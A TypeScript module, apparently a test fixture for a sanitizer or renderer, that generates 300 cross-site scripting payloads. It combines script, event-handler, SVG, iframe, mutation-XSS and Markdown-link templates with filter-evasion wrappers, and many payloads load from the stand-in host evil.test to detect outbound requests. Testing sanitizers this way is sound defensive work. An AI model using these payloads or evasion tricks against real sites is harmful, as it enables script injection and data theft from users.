/** Where a payload sends what it got, if it gets anything. */
export const foreignHost = 'evil.test'

/** Calls of `hit(n)` say that it ran; requests for the foreign host, that it got out. */
const templates: readonly ((n: number) => string)[] = [
  (n) => `<script>hit(${n})</script>`,
  (n) => `<script src="https://evil.test/${n}.js"></script>`,
  (n) => `<img src="https://evil.test/${n}.png" onerror="hit(${n})">`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<svg onload="hit(${n})"></svg>`,
  (n) => `<svg><script>hit(${n})</script></svg>`,
  (n) => `<svg><image href="https://evil.test/${n}.svg"></image></svg>`,
  (n) => `<svg><animate onbegin="hit(${n})" attributeName="x" dur="1s"></animate></svg>`,
  (n) => `<iframe src="https://evil.test/${n}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
  (n) => `<object data="https://evil.test/${n}"></object>`,
  (n) => `<embed src="https://evil.test/${n}">`,
  (n) => `<video src="https://evil.test/${n}.mp4" onerror="hit(${n})" autoplay></video>`,
  (n) => `<audio src="https://evil.test/${n}.mp3" onerror="hit(${n})" autoplay></audio>`,
  (n) => `<input autofocus onfocus="hit(${n})">`,
  (n) => `<details open ontoggle="hit(${n})"><summary>x</summary></details>`,
  (n) => `<link rel="stylesheet" href="https://evil.test/${n}.css">`,
  (n) => `<link rel="prefetch" href="https://evil.test/${n}">`,
  (n) => `<style>@import "https://evil.test/${n}.css";</style>`,
  (n) => `<div style="background:url(https://evil.test/${n}.gif)">x</div>`,
  (n) => `<body background="https://evil.test/${n}.gif" onload="hit(${n})">`,
  (n) =>
    `<math><mtext><table><mglyph><style><img src=x onerror=hit(${n})></style></mglyph></table></mtext></math>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=hit(${n})>"></noscript>`,
  (n) => `<template><img src=x onerror=hit(${n})></template><img srcset="https://evil.test/${n}.png">`,
  (n) => `<picture><source srcset="https://evil.test/${n}.webp"><img src=x onerror=hit(${n})></picture>`,
  (n) => `![all of it](https://evil.test/${n}.png)`,
  (n) => `![all of it][r${n}] and [r${n}]: https://evil.test/${n}.png`,
  (n) =>
    `[press here](javascript:hit(${n})) <a href="https://evil.test/${n}" ping="https://evil.test/${n}">x</a>`,
  (n) => `<form action="https://evil.test/${n}"><button autofocus onfocus="hit(${n})">x</button></form>`,
]

const entities = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')

/** What is put around one, or done to it, to get it past a filter. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"'>${payload}`,
  (payload) => `--></style></script></textarea></title>${payload}`,
  (payload) => `<<b>${payload}`,
  (payload) => entities(payload),
  (payload) => entities(entities(payload)),
  (payload) => payload.replaceAll('<', '\\u003c').concat(payload),
  (payload) => payload.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (payload) => payload.replaceAll('"', '`').concat('\u202e', payload),
  (payload) => `<!-- ${payload} --!>${payload}`,
]

export type Payload = { n: number; text: string }

/** 300 of them: each template in each disguise. */
export const payloads: readonly Payload[] = disguises
  .flatMap((disguise) => templates.map((template) => ({ disguise, template })))
  .map(({ disguise, template }, n) => ({ n, text: disguise(template(n)) }))
